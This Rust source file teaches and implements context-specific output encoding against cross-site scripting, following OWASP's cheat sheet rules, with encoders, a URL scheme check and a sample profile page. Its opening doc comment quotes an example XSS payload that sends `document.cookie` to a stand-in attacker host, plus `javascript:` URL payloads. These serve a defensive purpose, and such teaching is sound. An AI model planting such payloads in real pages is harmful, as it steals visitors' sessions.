//! # Output encoding against cross-site scripting (XSS)
//!
//! A backend that builds HTML pastes user data into it: a name into a paragraph, a website into
//! a link, a search term into a URL. The browser cannot tell where the page's markup ends and
//! the data begins, so data that contains markup **becomes** markup. A name such as
//! `<script>fetch('//evil.example/?c='+document.cookie)</script>` stored once runs in the
//! browser of every visitor of that profile: that is stored XSS, one of the most common web
//! vulnerabilities for twenty years.
//!
//! The defence is to **encode data for the context it lands in**, at the moment it is written
//! out. Each context has its own characters that end it, so each needs its own encoder, and the
//! wrong one is no defence at all:
//!
//! - [`html_text`], element content (`<p>HERE</p>`), OWASP's **Rule #1**: replace `&` `<` `>`
//!   `"` `'` with `&amp;` `&lt;` `&gt;` `&quot;` `&#x27;`. Everything else is left as it is.
//! - [`html_attr`], an attribute value (`<a title="HERE">`), **Rule #2**: every character below
//!   256 that is not an ASCII letter or digit becomes `&#xHH;` (two uppercase hex digits; so
//!   `"` is `&#x22;` and a space `&#x20;`). A quote ends the attribute, and in an attribute
//!   someone forgot to quote a space or `>` does: Rule #2 leaves nothing that ends one.
//! - [`url_component`], one query parameter (`/search?q=HERE`), **Rule #5**: percent-encode
//!   each UTF-8 byte as `%HH` (uppercase), except RFC 3986's unreserved characters, letters,
//!   digits and `-` `.` `_` `~`. Otherwise `&` starts a new parameter and `#` ends the query.
//! - [`is_safe_url`], a whole URL from the user in `href` or `src`, **Rule #7**: no encoding
//!   makes `javascript:alert(1)` safe, so check the scheme first, as a browser reads it. The
//!   URL parser deletes tabs and newlines anywhere, strips leading control characters and
//!   spaces, and ignores the case of the scheme: `" JaVa\tScRiPt:alert(1)"` runs script.
//!   Allow `http`, `https` and `mailto`; a URL with no scheme (the first `:` comes after a `/`,
//!   `?` or `#`, or there is none) is relative, and allowed.
//!
//! The given [`profile_page`] uses all four; the tests send the payloads of OWASP's cheat
//! sheets through each encoder and through the page.
//!
//! Primary sources: OWASP Cross Site Scripting Prevention Cheat Sheet (its rules #0 to #7),
//! <https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html>;
//! RFC 3986 §2.1 (percent-encoding) and §2.3 (unreserved characters); the WHATWG URL standard's
//! basic URL parser, <https://url.spec.whatwg.org/#concept-basic-url-parser>.

use std::fmt::Write;

/// Encodes `data` for HTML element content (OWASP Rule #1).
pub fn html_text(data: &str) -> String {
    let mut out = String::with_capacity(data.len());
    for c in data.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            _ => out.push(c),
        }
    }
    out
}

/// Encodes `data` for an HTML attribute value (OWASP Rule #2).
pub fn html_attr(data: &str) -> String {
    let mut out = String::with_capacity(data.len());
    for c in data.chars() {
        if (c as u32) < 256 && !c.is_ascii_alphanumeric() {
            // Writing to a String cannot fail.
            let _ = write!(out, "&#x{:02X};", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// Percent-encodes `data` as one URL component, such as a query parameter (OWASP Rule #5).
pub fn url_component(data: &str) -> String {
    let mut out = String::with_capacity(data.len());
    for &b in data.as_bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

/// Whether a URL from the user may go into `href` or `src` (OWASP Rule #7): relative, or
/// with the scheme `http`, `https` or `mailto` as the browser's URL parser reads it.
pub fn is_safe_url(url: &str) -> bool {
    // What the URL parser does before it looks for a scheme.
    let cleaned: String = url
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let Some(colon) = cleaned.find(':') else {
        return true;
    };
    // A `/`, `?` or `#` before the first `:` makes it a relative URL, not a scheme.
    if cleaned[..colon].contains(['/', '?', '#']) {
        return true;
    }
    let scheme = cleaned[..colon].to_ascii_lowercase();
    matches!(scheme.as_str(), "http" | "https" | "mailto")
}

// ---------------------------------------------------------------------------------------------
// Given: a page that puts user data in each context, the way a template engine would.
// ---------------------------------------------------------------------------------------------

/// A user's profile page: `name` as text and as a title, `website` as a link, `search` as a
/// query parameter. A website that is not safe becomes `#`, a link to nowhere.
pub fn profile_page(name: &str, website: &str, search: &str) -> String {
    let href = if is_safe_url(website) { website } else { "#" };
    format!(
        "<p class=\"greeting\">Hello, {name_text}!</p>\n\
         <a href=\"{href}\" title=\"{name_attr}\">website</a>\n\
         <a href=\"/search?q={q}&amp;page=1\">search again</a>\n",
        name_text = html_text(name),
        // The URL is still an attribute value: it is encoded for that context too.
        href = html_attr(href),
        name_attr = html_attr(name),
        q = url_component(search),
    )
}
